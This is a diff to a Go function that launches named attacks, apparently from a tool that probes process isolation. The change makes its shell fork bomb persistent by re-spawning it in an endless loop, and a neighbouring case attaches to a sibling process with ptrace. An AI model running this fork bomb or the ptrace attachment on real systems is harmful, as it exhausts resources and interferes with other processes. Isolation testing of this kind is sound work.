@@ -97,7 +97,8 @@ func attempt(attack, target string) (string, error) {
 		syscall.PtraceDetach(sib.Process.Pid)
 		return "attached to sibling " + strconv.Itoa(sib.Process.Pid), nil
 	case "forkbomb":
-		bomb := exec.Command("/bin/sh", "-c", `b() { b | b & }; b # `+target)
+		// It forks until it cannot, and goes on trying.
+		bomb := exec.Command("/bin/sh", "-c", `b() { b | b & }; while :; do b 2>/dev/null; done # `+target)
 		if err := bomb.Start(); err != nil {
 			return "", err
 		}
